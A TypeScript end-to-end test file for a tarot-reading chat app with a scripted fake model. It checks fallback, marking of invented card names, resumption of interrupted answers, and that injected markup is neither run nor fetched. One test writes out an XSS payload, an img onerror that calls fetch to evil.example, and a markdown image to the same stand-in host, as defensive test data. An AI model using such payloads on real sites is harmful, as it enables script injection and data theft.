import { afterAll, describe, expect, test } from "vitest";
import { hostileTexts } from "../src/server/features/shares/testing/hostile-texts.ts";
import { type Script, startFakeModel } from "../src/server/testing/fake-model.ts";
import { ask, lastTurn, openTopic, readText, waitTold } from "./steps/chat.ts";
import { eventually, openHouse, quickly } from "./steps/house.ts";
import { expectAsStored } from "./steps/stored.ts";

/** Three of these at most lie on the table: a paragraph that names all four names one that does not. */
const invented = "愚人、世界、太阳和月亮都落在这里，等于四张大牌一齐点头。";
const told: Script = { everyMs: 80, tokens: ["## 可以换，先把下家看实。\n\n", "这是讲你处境的一段，", "没有点名。\n\n", invented] };

describe("a configured model", () => {
  let script: Script = told;
  let fake: Awaited<ReturnType<typeof startFakeModel>>;
  const house = openHouse(async () => {
    fake = await startFakeModel(() => script);
    return { ...quickly, MODEL_PLUS: "openai", MODEL_PLUS_BASE_URL: fake.baseUrl, MODEL_PLUS_NAME: "scripted" };
  });
  afterAll(() => fake?.close());

  test("that fails before its first word: the built-in reader answers, and the page says so", async () => {
    script = { tokens: [], status: 500 };
    const person = await house.visit();
    const { page, words } = person;
    await openTopic(person, "tarot");
    await ask(person, "我该不该换工作？");
    await lastTurn(page).getByText(words.chat.fellBack, { exact: true }).waitFor();
    expect(fake.requests.length).toBeGreaterThan(0);
    expect((await expectAsStored(person)).length).toBeGreaterThan(300);
  });

  test("that names a card which was not drawn: that paragraph is marked, the others are not", async () => {
    script = told;
    const person = await house.visit();
    const { page, words } = person;
    await openTopic(person, "tarot");
    await ask(person, "我该不该换工作？");
    expect(await page.getByText(words.chat.fellBack).count()).toBe(0);
    const doubtful = page.locator(".para", { has: page.locator(".doubt") });
    expect(await doubtful.count()).toBe(1);
    expect(await readText(doubtful)).toContain(invented);
    expect(await readText(doubtful)).toContain(words.chat.doubtful);
    expect(await readText(lastTurn(page).locator(".reading > h2"))).toBe("可以换，先把下家看实。");
    await expectAsStored(person);
  });

  test("that breaks off halfway: the answer is marked, and goes on to its end when told to", async () => {
    script = { ...told, breakAfter: 3 };
    const person = await house.visit();
    const { page, words } = person;
    await openTopic(person, "tarot");
    await ask(person, "我该不该换工作？");
    await lastTurn(page).getByText(words.chat.interrupted, { exact: true }).waitFor();
    script = { tokens: ["这是接着说的话。"] };
    await page.getByRole("button", { name: words.chat.resume, exact: true }).click();
    await lastTurn(page).getByText("这是接着说的话。").waitFor();
    await waitTold(page);
    expect(await lastTurn(page).locator(".state").count()).toBe(0);
    await expectAsStored(person);
  });

  test("that writes forty kinds of markup into its answer: in the chat and in what is shared of it they are letters, nothing is fetched or run", async () => {
    script = { tokens: [`## 说给你听。\n\n`, ...hostileTexts.map((text) => `${text}\n\n`)] };
    const person = await house.visit();
    const stranger = await house.visit({ device: "phone" });
    const abroad: string[] = [];
    for (const { page, url } of [person, stranger]) {
      page.on("request", (request) => {
        const { protocol, origin } = new URL(request.url());
        if (/^https?:$/.test(protocol) && origin !== new URL(url).origin) abroad.push(request.url());
      });
      page.on("dialog", (dialog) => {
        abroad.push(`dialog ${dialog.message()}`);
        void dialog.dismiss();
      });
    }
    const { page, words } = person;
    await openTopic(person, "tarot");
    await ask(person, "我该不该换工作？<img src=x onerror=\"fetch('https://evil.example/me')\"> ![我](https://evil.example/me.png)");
    await lastTurn(page).getByText("说给你听。").waitFor();
    const active =
      ":is(img, script, iframe, object, embed, link, style, meta, base, form, video, audio, details, math, picture, template, noscript, a[href^=javascript], a[href^=data], a[href^=vbscript])";
    expect(await lastTurn(page).locator(`:is(.reading, .me) ${active}`).count()).toBe(0);

    await page.locator(".turn.is-last .acts").getByRole("button", { name: words.sharing.share, exact: true }).click();
    await page.locator(".sh-preview img").waitFor();
    await page.getByRole("button", { name: words.sharing.copyLink, exact: true }).click();
    await eventually(() => readText(page.locator(".sh-link"))).toContain("/chat/");
    await stranger.page.goto(stranger.url + new URL(await readText(page.locator(".sh-link"))).pathname);
    await stranger.page.getByText("evil.example").first().waitFor();
    expect(await stranger.page.locator(`main ${active}`).count()).toBe(0);
    expect(abroad).toEqual([]);
    expect([await page.title(), await stranger.page.title()].join()).not.toMatch(/^1|,1$/);
  });
});
